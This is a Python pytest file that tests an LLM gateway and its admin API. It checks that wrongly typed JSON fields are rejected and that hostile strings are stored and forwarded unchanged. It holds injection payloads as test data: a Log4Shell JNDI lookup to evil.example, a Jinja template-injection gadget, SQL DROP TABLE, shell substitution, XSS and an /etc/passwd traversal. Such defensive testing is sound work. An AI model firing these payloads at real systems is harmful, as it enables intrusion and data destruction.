"""Members of JSON: what is of the wrong kind or not offered is refused; text stays as it is, to the letter."""

from __future__ import annotations

import json
from typing import Any

import pytest

from mastio_client import Identity
from support.appliance import Appliance
from support.threats.json_doors import DOORS, TOKENS
from support.threats.judge import BODY, CHAT, Answer, Judge, chat, refusal

# --- wrong members --------------------------------------------------------------------------------------------------

CHAT_MEMBERS: dict[str, dict[str, Any]] = {
    "modelnumber": {"model": 5},
    "modellist": {"model": ["gpt-4o"]},
    "modelnull": {"model": None},
    "modelempty": {"model": ""},
    "modellong": {"model": "m" * 257},
    "messagestext": {"messages": "hello"},
    "messagesobject": {"messages": {"0": {}}},
    "messagesnull": {"messages": None},
    "streamtext": {"stream": "yes"},
    "streamnumber": {"stream": 1},
}
ADMIN_MEMBERS: dict[str, dict[str, Any]] = {
    "role": {"role": "admin"},
    "status": {"status": "active"},
    "groups": {"groups": ["admins"]},
    "token": {"token": "mastio_enroll_mine"},
    "hash": {"token_hash": "0" * 64},
    "by": {"created_by": "somebody"},
    "place": {"place": 0},
    "usestext": {"uses": "1"},
    "usesfloat": {"uses": 1.5},
    "usesbool": {"uses": True},
    "useszero": {"uses": 0},
    "useshuge": {"uses": 10**18},
    "ttlnegative": {"ttl_seconds": -1},
    "ttlhuge": {"ttl_seconds": 10**12},
    "namelist": {"name": ["*"]},
    "namesql": {"name": "'; DROP TABLE agents; --"},
}


@pytest.mark.parametrize("name", CHAT_MEMBERS)
def test_a_chat_member_of_the_wrong_kind_is_refused(
    appliance: Appliance, agent: Identity, judge: Judge, name: str
) -> None:
    body = json.dumps({**BODY, **CHAT_MEMBERS[name]}).encode()
    judge.refused(chat(appliance, agent, body), refusal(422, "invalid_body"), CHAT)
    judge.mark()
    judge.served(chat(appliance, agent, json.dumps({**BODY, "stream": False}).encode()))


@pytest.mark.parametrize("name", ADMIN_MEMBERS)
def test_nothing_can_be_assigned_that_is_not_offered(appliance: Appliance, judge: Judge, name: str) -> None:
    door = DOORS["admin"]
    with appliance.admin() as admin:
        answer = Answer.of(admin.post(TOKENS, json={**door.right(), **ADMIN_MEMBERS[name]}))
        judge.refused(answer, refusal(422, "invalid_body", "control"), TOKENS)
        judge.mark()
        judge.served(Answer.of(admin.post(TOKENS, json=door.right())), status=201, upstream=False)


# --- text is text ---------------------------------------------------------------------------------------------------

TEXTS = {
    "jinja": "{{7*7}}{% for x in ().__class__.__base__.__subclasses__() %}",
    "dollar": "${jndi:ldap://evil.example/a} #{7*7} <%= 7*7 %>",
    "format": "{0.__class__} %s %n %(name)s {}",
    "sql": "'; DROP TABLE agents; -- \" OR \"1\"=\"1",
    "shell": "$(id) `id` | id; id && id",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "path": "../../../../etc/passwd",
    "cedar": 'permit(principal, action, resource); Agent::"x"',
    "unicode": "\u202eabc \u2028 \ufeff \U0001f600 e\u0301",
}  # fmt: skip


@pytest.mark.parametrize("name", TEXTS)
def test_text_reaches_the_provider_to_the_letter(
    appliance: Appliance, agent: Identity, judge: Judge, name: str
) -> None:
    """In every string of a chat call. The model's name, which has no comma, is seen at the provider and in the log."""
    text = TEXTS[name].replace(",", "")
    body = {"model": f"stub/{text}", "messages": [{"role": text, "content": text, text: text}], text: text}
    raw = json.dumps(body).encode()
    judge.served(chat(appliance, agent, raw))
    intent = judge.entries()[0]
    assert intent["target"] == f"stub/{text}" and intent["request"]["model"] == text
    assert last_model(judge) == text
    assert chat(appliance, agent).status == 200


def last_model(judge: Judge) -> str:
    """The model of the last call, as the provider read it."""
    calls = [line for line in judge.stub.journal() if line.get("method") == "POST" and "event" not in line]
    model: str = calls[-1]["model"]
    return model


@pytest.mark.parametrize("name", TEXTS)
def test_text_in_the_control_plane_is_kept_to_the_letter(appliance: Appliance, other: Identity, name: str) -> None:
    """As an attribute of an agent, name and value, and as the reason of a change."""
    text = TEXTS[name]
    reason = "".join(letter for letter in text if letter.isprintable())
    path = f"/v1/admin/agents/{other.name}"
    key = f"k{reason}"
    with appliance.admin() as admin:
        changed = admin.patch(path, json={"attributes": {key: [text, {key: text}]}, "reason": reason})
        assert changed.status_code == 200, changed.text
        assert admin.get(path).json()["attributes"] == {key: [text, {key: text}]}
        assert chat(appliance, other).status == 200, "policies can still be judged for it"
        assert admin.patch(path, json={"attributes": {}}).status_code == 200
